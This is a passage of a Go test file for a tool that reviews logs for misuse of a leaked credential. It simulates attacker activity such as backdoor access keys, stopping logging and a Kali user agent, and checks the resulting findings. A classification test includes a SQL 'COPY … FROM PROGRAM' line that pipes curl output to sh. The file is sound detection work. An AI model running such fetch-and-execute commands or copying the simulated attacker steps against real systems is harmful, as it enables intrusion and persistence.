package review

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/rekeyhq/rekey/internal/inventory"
	"github.com/rekeyhq/rekey/internal/logs"
)

const key = "AKIAREVIEWKEY0000001"

var (
	leak = time.Date(2026, 3, 31, 0, 0, 0, 0, time.UTC)
	rot  = leak.Add(7 * 24 * time.Hour)
	now  = rot.Add(3 * 24 * time.Hour)
	sdk  = "aws-sdk-go-v2/1.24.0 os/linux lang/go#1.21.5 md/GOOS#linux md/GOARCH#amd64 api/s3#1.0.0"
)

var ordersAPI = &inventory.Consumer{Name: "orders-api", Prefixes: []netip.Prefix{netip.MustParsePrefix("10.0.4.0/24")}}

type opt func(*logs.Event)

func from(src string) opt     { return func(e *logs.Event) { e.Source = src } }
func agent(ua string) opt     { return func(e *logs.Event) { e.UserAgent = ua } }
func refused(e *logs.Event)   { e.Outcome = logs.Failure }
func identity(arn string) opt { return func(e *logs.Event) { e.Identity = arn } }
func cred(c string) opt       { return func(e *logs.Event) { e.Credential = c } }
func app(a string) opt        { return func(e *logs.Event) { e.Application = a } }
func detail(kv ...string) opt {
	return func(e *logs.Event) {
		if e.Detail == nil {
			e.Detail = map[string]string{}
		}
		for i := 0; i+1 < len(kv); i += 2 {
			e.Detail[kv[i]] = kv[i+1]
		}
	}
}

var line int

// ev is one CloudTrail-like use of key by orders-api, unless opts say
// otherwise.
func ev(at time.Time, action string, opts ...opt) logs.Event {
	line++
	e := logs.Event{Time: at, Credential: key, Identity: "arn:aws:iam::123456789012:user/orders", Source: "10.0.4.17",
		UserAgent: sdk, Action: action, Outcome: logs.Success, File: "/logs/trail.json", Line: line,
		Detail: map[string]string{"user_name": "orders"}}
	for _, o := range opts {
		o(&e)
	}
	return e
}

// routine is orders-api's usual work: every hour from 09:00 to 17:59 UTC,
// reads and writes in S3 and a KMS decrypt, from its own network, plus a
// nightly report from an undeclared but long-standing host.
func routine(start, end time.Time) []logs.Event {
	var out []logs.Event
	for d := start.Truncate(24 * time.Hour); d.Before(end); d = d.Add(24 * time.Hour) {
		for h := 9; h < 18; h++ {
			t := d.Add(time.Duration(h)*time.Hour + 7*time.Minute)
			if t.Before(start) || !t.Before(end) {
				continue
			}
			out = append(out, ev(t, "s3:GetObject"), ev(t.Add(time.Minute), "s3:PutObject"), ev(t.Add(2*time.Minute), "kms:Decrypt"))
		}
		if t := d.Add(12 * time.Hour); !t.Before(start) && t.Before(end) {
			out = append(out, ev(t, "s3:ListBuckets", from("203.0.113.10")))
		}
	}
	return out
}

func config() Config {
	return Config{Credential: key, LeakedAt: leak, RotatedAt: rot, Consumers: []*inventory.Consumer{ordersAPI}, Now: now}
}

func review(cfg Config, events []logs.Event) Report {
	r := New(cfg)
	for _, e := range events {
		r.Add(e)
	}
	for keys := r.NextRelated(); len(keys) > 0; keys = r.NextRelated() {
		for _, e := range events {
			r.AddRelated(e)
		}
	}
	return r.Result()
}

func clean() []logs.Event { return routine(leak.Add(-DefaultBaseline), rot) }

func kinds(rep Report) map[string][]Finding {
	out := map[string][]Finding{}
	for _, f := range rep.Findings {
		out[f.Kind] = append(out[f.Kind], f)
	}
	return out
}

func dump(rep Report) string {
	var b strings.Builder
	for _, f := range rep.Findings {
		fmt.Fprintf(&b, "  %s %s: %s\n", f.Severity, f.Kind, f.Summary)
	}
	return b.String()
}

func TestCleanHistoryHasNoFindings(t *testing.T) {
	rep := review(config(), clean())
	if len(rep.Findings) != 0 {
		t.Fatalf("a credential used as it always was has findings:\n%s", dump(rep))
	}
	if !rep.HasBaseline || rep.Windows.Baseline == nil || rep.Windows.Baseline.Events == 0 || rep.Windows.Exposure.Events == 0 || rep.Windows.After == nil || rep.Windows.After.Events != 0 {
		t.Fatalf("windows %+v", rep.Windows)
	}
}

// at is a time in the exposure window: day d after the leak, at hh:mm UTC.
func at(d, hh, mm int) time.Time {
	return leak.Add(time.Duration(d)*24*time.Hour + time.Duration(hh)*time.Hour + time.Duration(mm)*time.Minute)
}

func TestEachFindingFiresOnItsScenario(t *testing.T) {
	burst := func(start time.Time, n int, opts ...opt) []logs.Event {
		var out []logs.Event
		for i := range n {
			out = append(out, ev(start.Add(time.Duration(i)*10*time.Second), "iam:ListUsers", append(opts, refused)...))
		}
		return out
	}
	many := func(start time.Time, n int, action string, opts ...opt) []logs.Event {
		var out []logs.Event
		for i := range n {
			out = append(out, ev(start.Add(time.Duration(i)*10*time.Second), action, opts...))
		}
		return out
	}
	afterRot := rot.Add(2 * time.Hour)
	tests := []struct {
		name     string
		extra    []logs.Event
		kind     string
		severity Severity
		summary  string // a fragment the summary holds
	}{
		{"new source", []logs.Event{ev(at(1, 10, 3), "s3:GetObject", from("198.51.100.77"))},
			KindNewSource, High, "198.51.100.77, a source never seen in the 30 days before the leak (its network 198.51.100.0/24 too)"},
		{"new address in a known network", []logs.Event{ev(at(1, 10, 3), "s3:ListBuckets", from("203.0.113.99"))},
			KindNewSource, Medium, "its network 203.0.113.0/24 was seen before"},
		{"new application", []logs.Event{ev(at(1, 10, 3), "s3:ListBuckets", from("203.0.113.10"), app("psql"))},
			KindNewSource, Medium, `application "psql", never used in the 30 days before the leak`},
		{"new user agent from offensive tooling", []logs.Event{ev(at(1, 10, 3), "s3:GetObject", agent("aws-cli/2.15.0 Python/3.11.6 Linux/6.6.9-amd64 exe/x86_64.kali.2024"))},
			KindNewUserAgent, High, "offensive tooling"},
		{"new action", []logs.Event{ev(at(1, 10, 3), "s3:DeleteObject", from("10.0.4.18"))},
			KindNewAction, Low, "did s3:DeleteObject, which it never did"},
		{"logging tampering", []logs.Event{ev(at(1, 10, 3), "cloudtrail:StopLogging", from("198.51.100.77"))},
			KindSensitiveAction, Critical, "cloudtrail:StopLogging (logging tampering)"},
		{"reconnaissance", []logs.Event{ev(at(1, 10, 3), "sts:GetCallerIdentity", from("198.51.100.77")), ev(at(1, 10, 4), "iam:ListUsers", from("198.51.100.77")), ev(at(1, 10, 5), "iam:ListAttachedUserPolicies", from("198.51.100.77"))},
			KindSensitiveAction, Medium, "reconnaissance"},
		{"secret read", []logs.Event{ev(at(2, 11, 0), "secretsmanager:GetSecretValue", from("198.51.100.77"))},
			KindSensitiveAction, High, "secretsmanager:GetSecretValue (secret read)"},
		{"refused burst", burst(at(2, 10, 0), 30, from("198.51.100.77")),
			KindFailedAuthBurst, Medium, "30 refused attempts"},
		{"off hours", many(at(3, 3, 10), 4, "s3:GetObject"),
			KindOffHours, Medium, "03:00"},
		{"volume", many(at(3, 10, 0), 300, "s3:GetObject"),
			KindVolume, High, "calls in the hour from"},
		{"success after rotation", []logs.Event{ev(afterRot, "s3:GetObject", from("198.51.100.77"))},
			KindUseAfterRevocation, Critical, "used successfully 1 time after the rotation"},
		{"attacker still trying", []logs.Event{ev(afterRot, "s3:GetObject", from("198.51.100.77"), refused)},
			KindUseAfterRevocation, High, "likely whoever took it"},
		{"missed declared consumer", []logs.Event{ev(afterRot, "s3:GetObject", refused)},
			KindUseAfterRevocation, Medium, "Consumer orders-api still uses the old secret"},
		{"missed undeclared consumer", []logs.Event{ev(afterRot, "s3:ListBuckets", from("203.0.113.10"), refused)},
			KindUseAfterRevocation, Medium, "a consumer the inventory misses"},
		{"derived access key", []logs.Event{ev(at(1, 10, 3), "iam:CreateAccessKey", from("198.51.100.77"),
			detail("derived_key_id", "AKIABACKDOOR00000001", "derived_user", "backup-svc"))},
			KindDerivedCredential, Critical, "access-key AKIABACKDOOR00000001 (backup-svc)"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rep := review(config(), append(clean(), tt.extra...))
			got := kinds(rep)[tt.kind]
			if len(got) == 0 {
				t.Fatalf("no %s finding:\n%s", tt.kind, dump(rep))
			}
			f := got[0]
			if f.Severity != tt.severity || !strings.Contains(f.Summary, tt.summary) {
				t.Errorf("%s %s: %s\nwant %s, summary with %q", f.Severity, f.Kind, f.Summary, tt.severity, tt.summary)
			}
			if len(f.Evidence) == 0 || f.Evidence[0].File == "" || f.Evidence[0].Line == 0 || f.Evidence[0].Time.IsZero() {
				t.Errorf("evidence %+v", f.Evidence)
			}
			// The injected events are the evidence, not the routine.
			extra := map[int]bool{}
			for _, e := range tt.extra {
				extra[e.Line] = true
			}
			if !extra[f.Evidence[0].Line] {
				t.Errorf("evidence cites line %d, not an injected event", f.Evidence[0].Line)
			}
		})
	}
}

func TestDerivedCredentialIsRelatedWithItsActivity(t *testing.T) {
	create := ev(at(1, 10, 3), "iam:CreateAccessKey", from("198.51.100.77"),
		detail("derived_key_id", "AKIABACKDOOR00000001", "derived_user", "backup-svc"))
	// The new key's use is read before its creation (files are unordered).
	uses := []logs.Event{
		ev(at(1, 10, 5), "s3:GetObject", cred("AKIABACKDOOR00000001"), identity("arn:aws:iam::123456789012:user/backup-svc"), from("198.51.100.77")),
		ev(at(9, 1, 0), "iam:CreateAccessKey", cred("AKIABACKDOOR00000001"), identity("arn:aws:iam::123456789012:user/backup-svc"), from("198.51.100.78"),
			detail("derived_key_id", "AKIACHAINED000000002", "derived_user", "backup-svc")),
		ev(at(9, 2, 0), "s3:GetObject", cred("AKIACHAINED000000002"), from("198.51.100.78")),
	}
	rep := review(config(), append(append(uses, clean()...), create))
	if len(rep.Related) != 2 {
		t.Fatalf("related %+v", rep.Related)
	}
	r := rep.Related[0]
	if r.Credential != "AKIABACKDOOR00000001" || r.Kind != "access-key" || !r.CreatedAt.Equal(create.Time) || r.CreatedBy != key || r.From != "198.51.100.77" || len(r.Evidence) != 1 {
		t.Errorf("related %+v", r)
	}
	if r.Activity.Events != 2 || r.Activity.AfterRotation != 1 || !slices.Equal(r.Activity.Sources, []string{"198.51.100.77", "198.51.100.78"}) {
		t.Errorf("activity %+v", r.Activity)
	}
	c := rep.Related[1]
	if c.Credential != "AKIACHAINED000000002" || c.CreatedBy != "AKIABACKDOOR00000001" || c.Activity.Events != 1 {
		t.Errorf("chained %+v", c)
	}
	// Its uses are the new key's, not the reviewed key's.
	if rep.Windows.After.Events != 0 {
		t.Errorf("the derived key's use counted as the reviewed key's: %+v", rep.Windows.After)
	}
	fs := kinds(rep)[KindDerivedCredential]
	if len(fs) != 2 || !strings.Contains(fs[0].Summary, "then used 2 times") {
		t.Errorf("derived findings:\n%s", dump(rep))
	}
}

func TestSessionsAConsumerRoutinelyOpensAreMedium(t *testing.T) {
	assume := func(t time.Time, n int, opts ...opt) logs.Event {
		return ev(t, "sts:AssumeRole", append(opts, detail("derived_key_id", fmt.Sprintf("ASIASESSION%09d", n),
			"derived_role_arn", fmt.Sprintf("arn:aws:sts::123456789012:assumed-role/deploy/s%d", n)))...)
	}
	events := clean()
	for d := -20; d < 0; d++ {
		events = append(events, assume(at(d, 10, 30), 100+d))
	}
	events = append(events, assume(at(1, 10, 30), 1), assume(at(1, 11, 30), 2, from("198.51.100.77")))
	rep := review(config(), events)
	fs := kinds(rep)[KindDerivedCredential]
	if len(fs) != 2 || fs[0].Severity != High || !strings.Contains(fs[0].Summary, "198.51.100.77") || fs[1].Severity != Medium {
		t.Fatalf("derived:\n%s", dump(rep))
	}
	if len(rep.Related) != 2 || rep.Related[0].Kind != "session" || rep.Related[0].Principal == "" {
		t.Errorf("related %+v", rep.Related)
	}
	// AssumeRole is routine (done in the baseline from the consumer); only
	// the attacker's makes a sensitive-action finding.
	if sa := kinds(rep)[KindSensitiveAction]; len(sa) != 1 || !strings.Contains(sa[0].Summary, "198.51.100.77") {
		t.Errorf("sensitive:\n%s", dump(rep))
	}
}

func TestNoBaseline(t *testing.T) {
	attack := []logs.Event{
		ev(at(1, 3, 0), "sts:GetCallerIdentity", from("198.51.100.77"), agent("python-requests/2.31")),
		ev(at(1, 3, 1), "iam:CreateAccessKey", from("198.51.100.77"), detail("derived_key_id", "AKIABACKDOOR00000001")),
	}
	routineOnly := routine(leak, rot)
	t.Run("no leak time", func(t *testing.T) {
		cfg := config()
		cfg.LeakedAt = time.Time{}
		rep := review(cfg, append(routineOnly, attack...))
		k := kinds(rep)
		if rep.HasBaseline || rep.Windows.Baseline != nil || len(k[KindNoBaseline]) != 1 || !strings.Contains(k[KindNoBaseline][0].Summary, "No leak time") {
			t.Fatalf("no-baseline:\n%s", dump(rep))
		}
		// Judged by sensitive actions and undeclared sources alone: the
		// attacker and the undeclared reporting host.
		if len(k[KindSensitiveAction]) == 0 || len(k[KindNewSource]) != 2 || len(k[KindDerivedCredential]) != 1 {
			t.Errorf("findings:\n%s", dump(rep))
		}
		for _, kind := range []string{KindNewUserAgent, KindNewAction, KindOffHours, KindVolume} {
			if len(k[kind]) > 0 {
				t.Errorf("%s without a baseline:\n%s", kind, dump(rep))
			}
		}
	})
	t.Run("nothing before the leak", func(t *testing.T) {
		rep := review(config(), append(routineOnly, attack...))
		k := kinds(rep)
		if rep.HasBaseline || len(k[KindNoBaseline]) != 1 || !strings.Contains(k[KindNoBaseline][0].Summary, "no recorded use in the 30 days before") {
			t.Fatalf("no-baseline:\n%s", dump(rep))
		}
		if len(k[KindOffHours]) > 0 || len(k[KindNewUserAgent]) > 0 {
			t.Errorf("invented a baseline:\n%s", dump(rep))
		}
	})
	t.Run("silent with a baseline", func(t *testing.T) {
		if k := kinds(review(config(), clean())); len(k[KindNoBaseline]) > 0 {
			t.Errorf("no-baseline with a baseline")
		}
	})
}

func TestNameKeepsItsNameAcrossRotation(t *testing.T) {
	// A database role: after rotation, consumers log in under the same
	// name with the new password; that is expected, an unknown source
	// succeeding is not.
	pg := func(t time.Time, src, appName string, out logs.Outcome) logs.Event {
		line++
		return logs.Event{Time: t, Credential: "orders_svc", Source: src, Application: appName, Action: "connect", Outcome: out,
			File: "/var/log/postgresql/postgresql.csv", Line: line}
	}
	cfg := Config{Credential: "orders_svc", LeakedAt: leak, RotatedAt: rot, Now: now,
		Consumers: []*inventory.Consumer{{Name: "orders-api", Apps: []string{"orders-api"}}}}
	events := []logs.Event{pg(at(-3, 10, 0), "10.0.4.17", "orders-api", logs.Success), pg(rot.Add(time.Hour), "10.0.4.17", "orders-api", logs.Success)}
	if rep := review(cfg, events); len(rep.Findings) != 0 {
		t.Fatalf("a consumer with the new password is a finding:\n%s", dump(rep))
	}
	// The attacker's session, opened before the rotation, ended by it: its
	// disconnection is not a use after revocation.
	bye := pg(rot.Add(time.Second), "192.0.2.66", "psql", logs.Success)
	bye.Action = "disconnect"
	if f := kinds(review(cfg, append(events, bye)))[KindUseAfterRevocation]; len(f) != 0 {
		t.Fatalf("a session ended by the rotation counts as use after it: %+v", f)
	}
	rep := review(cfg, append(events, pg(rot.Add(2*time.Hour), "192.0.2.66", "psql", logs.Success)))
	if f := kinds(rep)[KindUseAfterRevocation]; len(f) != 1 || f[0].Severity != Critical || !strings.Contains(f[0].Summary, "outside the declared consumers has the new secret") {
		t.Fatalf("unknown success after rotation:\n%s", dump(rep))
	}
}

func TestMultiSource(t *testing.T) {
	role := "arn:aws:iam::123456789012:role/web"
	inst := "arn:aws:sts::123456789012:assumed-role/web/i-0abc12345def67890"
	use := func(t time.Time, src string) logs.Event {
		return ev(t, "s3:GetObject", cred("ASIAINSTANCE00000001"), identity(inst), from(src),
			detail("session_issuer_arn", role))
	}
	cfg := config()
	cfg.Credential = role
	one := []logs.Event{use(at(-2, 10, 0), "10.0.9.5"), use(at(1, 10, 0), "10.0.9.5"), use(at(1, 10, 5), "ec2.amazonaws.com")}
	if f := kinds(review(cfg, one))[KindMultiSource]; len(f) != 0 {
		t.Fatalf("one source (and AWS itself) is multi-source: %+v", f)
	}
	rep := review(cfg, append(one, use(at(1, 11, 0), "198.51.100.77")))
	f := kinds(rep)[KindMultiSource]
	if len(f) != 1 || !strings.Contains(f[0].Summary, "instance i-0abc12345def67890") || !strings.Contains(f[0].Summary, "2 different sources") {
		t.Fatalf("multi-source:\n%s", dump(rep))
	}
	// A pod's token used away from the pod's address.
	pod := func(src string) logs.Event {
		return ev(at(1, 10, 0), "get secrets", cred("system:serviceaccount:shop:orders"), from(src),
			detail("bound_pod", "shop/orders-7d9f", "bound_pod_ip", "10.42.0.17"))
	}
	cfg.Credential = "system:serviceaccount:shop:orders"
	if f := kinds(review(cfg, []logs.Event{pod("10.42.0.17")}))[KindMultiSource]; len(f) != 0 {
		t.Fatalf("the pod's own address is multi-source: %+v", f)
	}
	rep = review(cfg, []logs.Event{pod("10.42.0.17"), pod("203.0.113.50")})
	if f := kinds(rep)[KindMultiSource]; len(f) != 2 || !strings.Contains(dump(rep), "issued to 10.42.0.17") {
		t.Fatalf("pod token:\n%s", dump(rep))
	}
}

func TestReferenceMatching(t *testing.T) {
	role := "arn:aws:iam::123456789012:role/deploy"
	tests := []struct {
		ref  string
		e    logs.Event
		want bool
	}{
		{key, logs.Event{Credential: key}, true},
		{key, logs.Event{Credential: "AKIAOTHER00000000001"}, false},
		{role, logs.Event{Identity: "arn:aws:sts::123456789012:assumed-role/deploy/ci-42"}, true},
		{role, logs.Event{Identity: "arn:aws:sts::123456789012:assumed-role/deployer/ci-42"}, false},
		{role, logs.Event{Detail: map[string]string{"session_issuer_arn": role}}, true},
		{"arn:aws:iam::123456789012:role/team/deploy", logs.Event{Identity: "arn:aws:sts::123456789012:assumed-role/deploy/x"}, true},
		{"arn:aws:iam::123456789012:user/alice", logs.Event{Identity: "arn:aws:iam::123456789012:user/alice"}, true},
		{"alice", logs.Event{Detail: map[string]string{"user_name": "alice"}}, true},
		{"app", logs.Event{Identity: "app@10.0.0.%"}, true},
		{"app", logs.Event{Identity: "apps@10.0.0.%"}, false},
		{"orders_svc", logs.Event{Credential: "orders_svc"}, true},
	}
	for _, tt := range tests {
		r := parseRef(tt.ref)
		if got := r.matches(&tt.e); got != tt.want {
			t.Errorf("%s matches %+v = %v, want %v", tt.ref, tt.e, got, tt.want)
		}
	}
}

func TestClassify(t *testing.T) {
	tests := []struct {
		e        logs.Event
		label    string
		category string
	}{
		{logs.Event{Action: "sts:AssumeRole", Identity: "arn:aws:sts::1:assumed-role/a/b"}, "sts:AssumeRole", catChain},
		{logs.Event{Action: "sts:AssumeRole", Identity: "arn:aws:iam::1:user/a"}, "sts:AssumeRole", catAssume},
		{logs.Event{Action: "ec2:DeleteFlowLogs"}, "ec2:DeleteFlowLogs", catTamper},
		{logs.Event{Action: "ec2:DescribeInstances"}, "ec2:DescribeInstances", catRecon},
		{logs.Event{Action: "s3:GetObject"}, "", ""},
		{logs.Event{Action: "CREATE ROLE", Detail: map[string]string{"statement": "CREATE ROLE x LOGIN PASSWORD '[REDACTED]'"}}, "CREATE ROLE", catCredential},
		{logs.Event{Action: "COPY", Detail: map[string]string{"statement": "COPY t FROM PROGRAM 'curl -s http://x | sh'"}}, "COPY … PROGRAM", catExec},
		{logs.Event{Action: "COPY", Detail: map[string]string{"statement": "COPY t FROM STDIN"}}, "", ""},
		{logs.Event{Action: "GRANT", Detail: map[string]string{"statement": "GRANT pg_read_server_files TO x"}}, "GRANT", catPrivilege},
		{logs.Event{Action: "SELECT", Detail: map[string]string{"statement": "SELECT 1"}}, "", ""},
		{logs.Event{Action: "Query", Detail: map[string]string{"statement": "CREATE USER 'bk'@'%' IDENTIFIED BY '[REDACTED]'"}}, "CREATE USER", catCredential},
		{logs.Event{Action: "Query", Detail: map[string]string{"query": "GRANT ALL ON *.* TO 'bk'@'%'"}}, "GRANT", catPrivilege},
		{logs.Event{Action: "get", Detail: map[string]string{"resource": "secrets"}}, "get", catSecret},
		{logs.Event{Action: "create pods/exec"}, "create pods/exec", catExec},
		{logs.Event{Action: "create serviceaccounts/token"}, "create serviceaccounts/token", catCredential},
		{logs.Event{Action: "create clusterrolebindings"}, "create clusterrolebindings", catPrivilege},
		{logs.Event{Action: "update auth/token/create"}, "update auth/token/create", catCredential},
		{logs.Event{Action: "delete sys/audit/file"}, "delete sys/audit/file", catTamper},
		{logs.Event{Action: "read secret/data/app"}, "", ""},
		{logs.Event{Action: "list sys/policies/acl"}, "list sys/policies/acl", catRecon},
		{logs.Event{Action: "update sys/policies/acl/admin"}, "update sys/policies/acl/admin", catPrivilege},
		{logs.Event{Action: "personal_access_token.request_created"}, "personal_access_token.request_created", catCredential},
		{logs.Event{Action: "repo.download_zip"}, "repo.download_zip", catExfil},
		{logs.Event{Action: "repo.create"}, "", ""},
	}
	for _, tt := range tests {
		label, s, ok := classify(&tt.e)
		if label != tt.label || s.category != tt.category || ok != (tt.label != "") {
			t.Errorf("%s %v: %q %q %v, want %q %q", tt.e.Action, tt.e.Detail, label, s.category, ok, tt.label, tt.category)
		}
	}
}

func TestSQLName(t *testing.T) {
	for stmt, want := range map[string]string{
		"CREATE ROLE backdoor LOGIN PASSWORD '[REDACTED]'":            "backdoor",
		`create user "Evil" with password '[REDACTED]'`:               "Evil",
		"CREATE ROLE IF NOT EXISTS bk":                                "bk",
		"ALTER ROLE app_ro WITH LOGIN PASSWORD '[REDACTED]';":         "app_ro",
		"GRANT pg_write_server_files TO bk":                           "bk",
		"GRANT SELECT ON secrets TO bk":                               "",
		"CREATE USER MAPPING FOR bk SERVER remote OPTIONS (user 'x')": "bk",
		"CREATE USER 'bk'@'%' IDENTIFIED BY '[REDACTED]'":             "bk@%",
	} {
		if got := sqlName(stmt); got != want {
			t.Errorf("sqlName(%q) = %q, want %q", stmt, got, want)
		}
	}
}

// Files are read in no particular order: the report must not depend on it.
func TestOrderDoesNotMatter(t *testing.T) {
	events := append(clean(),
		ev(at(1, 3, 0), "sts:GetCallerIdentity", from("198.51.100.77"), agent("python-requests/2.31")),
		ev(at(1, 3, 1), "iam:CreateAccessKey", from("198.51.100.77"), detail("derived_key_id", "AKIABACKDOOR00000001")),
		ev(at(1, 3, 2), "s3:GetObject", cred("AKIABACKDOOR00000001"), from("198.51.100.77")),
		ev(rot.Add(time.Hour), "s3:GetObject", from("198.51.100.77"), refused))
	want, _ := json.Marshal(review(config(), events))
	rng := rand.New(rand.NewPCG(1, 2))
	for range 3 {
		rng.Shuffle(len(events), func(i, j int) { events[i], events[j] = events[j], events[i] })
		got, _ := json.Marshal(review(config(), events))
		if string(got) != string(want) {
			t.Fatalf("a shuffled input gives another report:\n%s\n%s", got, want)
		}
	}
}

func TestTimelineAndSummary(t *testing.T) {
	events := append(clean(),
		ev(at(1, 3, 0), "cloudtrail:StopLogging", from("198.51.100.77")),
		ev(rot.Add(time.Hour), "s3:GetObject", from("198.51.100.77"), refused))
	rep := review(config(), events)
	if len(rep.Timeline) < 4 || len(rep.Timeline) > maxTimeline {
		t.Fatalf("timeline of %d", len(rep.Timeline))
	}
	if !slices.IsSortedFunc(rep.Timeline, func(a, b Moment) int { return a.Time.Compare(b.Time) }) {
		t.Error("timeline out of order")
	}
	var stop *Moment
	for i, m := range rep.Timeline {
		if m.Action == "cloudtrail:StopLogging" {
			stop = &rep.Timeline[i]
		}
	}
	if stop == nil || stop.Window != "exposure" || !slices.Contains(stop.Kinds, KindSensitiveAction) || !slices.Contains(stop.Kinds, KindNewSource) {
		t.Errorf("StopLogging moment %+v", stop)
	}
	if rep.Timeline[len(rep.Timeline)-1].Window != "after" {
		t.Errorf("last moment %+v", rep.Timeline[len(rep.Timeline)-1])
	}
	rows := map[string]Row{}
	for _, r := range rep.Summary.Sources {
		rows[r.Name] = r
	}
	if r := rows["10.0.4.17"]; r.Baseline == 0 || r.Exposure == 0 || r.After != 0 || r.Consumer != "orders-api" {
		t.Errorf("consumer row %+v", r)
	}
	if r := rows["198.51.100.77"]; r.Baseline != 0 || r.Exposure != 1 || r.After != 1 || r.Failures != 1 {
		t.Errorf("attacker row %+v", r)
	}
	var stopRow Row
	for _, r := range rep.Summary.Actions {
		if r.Name == "cloudtrail:StopLogging" {
			stopRow = r
		}
	}
	if !stopRow.Sensitive || stopRow.Exposure != 1 {
		t.Errorf("action row %+v", stopRow)
	}
}

// Memory is bounded by the caps: past them, keys are counted, not kept,
// and the report says so.
func TestCapsAreBoundedAndSaid(t *testing.T) {
	cfg := config()
	cfg.MaxKeys = 50
	r := New(cfg)
	for i := range 5000 {
		r.Add(ev(at(1, 10, 0).Add(time.Duration(i)*time.Second), fmt.Sprintf("s3:Op%d", i), from(fmt.Sprintf("198.51.%d.%d", i/250, i%250))))
	}
	w := r.win[wExposure]
	if len(w.sources.m) > 50 || len(w.actions.m) > 50 || len(w.networks.m) > 50 {
		t.Fatalf("kept %d sources, %d actions", len(w.sources.m), len(w.actions.m))
	}
	rep := r.Result()
	notes := strings.Join(rep.Notes, "\n")
	if !strings.Contains(notes, "More than 50 distinct sources in the exposure window") || rep.Windows.Exposure.Events != 5000 {
		t.Fatalf("notes %q, events %d", notes, rep.Windows.Exposure.Events)
	}
	if n := len(kinds(rep)[KindNewSource]); n > maxFindingsPerKind+1 {
		t.Errorf("%d new-source findings", n)
	}
	for _, f := range rep.Findings {
		if len(f.Evidence) > evidencePerFinding {
			t.Errorf("%s holds %d evidence", f.Kind, len(f.Evidence))
		}
	}
}

func TestEventsBeforeTheBaselineAreLeftOut(t *testing.T) {
	rep := review(config(), append(clean(), ev(leak.Add(-40*24*time.Hour), "s3:GetObject", from("198.51.100.77"))))
	if len(rep.Findings) != 0 || len(rep.Notes) != 1 || !strings.Contains(rep.Notes[0], "before the baseline") {
		t.Fatalf("notes %v\n%s", rep.Notes, dump(rep))
	}
}

func TestOneToolRunningManyCommandsIsOneNewAgent(t *testing.T) {
	cli := func(cmd string) string {
		return "aws-cli/2.15.30 Python/3.11.8 Linux/6.6.9-amd64 exe/x86_64.kali.2024 prompt/off command/" + cmd
	}
	events := clean()
	for i, cmd := range []string{"sts.get-caller-identity", "iam.list-users", "s3.list-buckets"} {
		events = append(events, ev(leak.Add(time.Duration(i+1)*time.Hour), "s3:ListBuckets", agent(cli(cmd))))
	}
	f := kinds(review(config(), events))[KindNewUserAgent]
	if len(f) != 1 || f[0].Count != 3 {
		t.Fatalf("new-user-agent findings: %+v", f)
	}
	if got := agentKey(cli("iam.list-users")); strings.Contains(got, "command/") || !strings.Contains(got, "kali") {
		t.Errorf("agentKey = %q", got)
	}
}

// TestRefusalsAfterRotationAreNotPinnedOnAProvenConsumer: two consumers
// share an address; the run's verify step proved one of them on its new
// login after the cut-off. Refused logins with the old credential from
// that address afterwards are not that consumer's: with the other also
// proven they are unattributed (likely the attacker); with the other not
// proven, address alone can still point at it, never at the proven one.
// An application name a consumer declares singles it out even then.
func TestRefusalsAfterRotationAreNotPinnedOnAProvenConsumer(t *testing.T) {
	pg := func(at time.Time, appName string, out logs.Outcome) logs.Event {
		line++
		return logs.Event{Time: at, Credential: "orders_svc", Source: "10.0.4.17:51234", Application: appName, Action: "connect", Outcome: out,
			File: "/var/log/postgresql/postgresql.csv", Line: line}
	}
	net := []netip.Prefix{netip.MustParsePrefix("10.0.4.0/24")}
	api := &inventory.Consumer{Name: "orders-api", Prefixes: net, Apps: []string{"orders-api"}}
	worker := &inventory.Consumer{Name: "orders-worker", Prefixes: net}
	provenAPI := Verified{Consumer: "orders-api", Login: "orders_svc_orders_api", At: rot.Add(time.Minute), Sources: []string{"10.0.4.17:40000"}, Applications: []string{"orders-api"}}
	provenWorker := Verified{Consumer: "orders-worker", Login: "orders_svc_orders_worker", At: rot.Add(2 * time.Minute)}
	var events []logs.Event
	for i := range 12 {
		events = append(events, pg(rot.Add(10*time.Minute+time.Duration(i)*time.Second), "", logs.Failure))
	}
	blamed := func(rep Report, name string) bool {
		for _, f := range kinds(rep)[KindUseAfterRevocation] {
			if strings.Contains(f.Summary, "Consumer "+name) || strings.Contains(f.Summary, name+" still uses") {
				return true
			}
		}
		return false
	}
	unattributed := func(rep Report) *Finding {
		for _, f := range kinds(rep)[KindUseAfterRevocation] {
			if strings.HasPrefix(f.Summary, "Unattributed: likely the attacker.") {
				return &f
			}
		}
		return nil
	}

	both := Config{Credential: "orders_svc", LeakedAt: leak, RotatedAt: rot, Now: now, Consumers: []*inventory.Consumer{api, worker},
		Verified: []Verified{provenAPI, provenWorker}}
	rep := review(both, events)
	if blamed(rep, "orders-api") || blamed(rep, "orders-worker") {
		t.Fatalf("a consumer the run proved on its new login is blamed:\n%s", dump(rep))
	}
	f := unattributed(rep)
	if f == nil || f.Count != 12 || f.Severity != High || !strings.Contains(f.Summary, "orders-api on login orders_svc_orders_api at "+ts(provenAPI.At)) {
		t.Fatalf("want the refusals unattributed, with the proof that clears each consumer:\n%s", dump(rep))
	}

	one := both
	one.Verified = []Verified{provenAPI}
	rep = review(one, events)
	if blamed(rep, "orders-api") {
		t.Fatalf("the proven consumer is blamed:\n%s", dump(rep))
	}
	if !blamed(rep, "orders-worker") {
		t.Fatalf("the one unproven consumer on the address is not named:\n%s", dump(rep))
	}

	// Without the run's proof, address alone does not single out one of
	// two consumers either.
	none := both
	none.Verified = nil
	if rep := review(none, events); blamed(rep, "orders-api") || blamed(rep, "orders-worker") || unattributed(rep) == nil {
		t.Fatalf("two consumers on one address: a refusal is pinned on one of them:\n%s", dump(rep))
	}

	// Another program on its address is not a consumer that names its
	// applications.
	alone := Config{Credential: "orders_svc", LeakedAt: leak, RotatedAt: rot, Now: now, Consumers: []*inventory.Consumer{api}}
	if rep := review(alone, []logs.Event{pg(rot.Add(time.Hour), "exfil", logs.Failure)}); blamed(rep, "orders-api") || unattributed(rep) == nil {
		t.Fatalf("a refusal under another application name is pinned on orders-api:\n%s", dump(rep))
	}
	if rep := review(alone, []logs.Event{pg(rot.Add(time.Hour), "", logs.Failure)}); !blamed(rep, "orders-api") {
		t.Fatalf("the only consumer on the address, unproven, is not named:\n%s", dump(rep))
	}

	// Its own application name still singles out the proven consumer: a
	// replica the delivery missed.
	rep = review(both, append(events, pg(rot.Add(time.Hour), "orders-api", logs.Failure)))
	if !blamed(rep, "orders-api") {
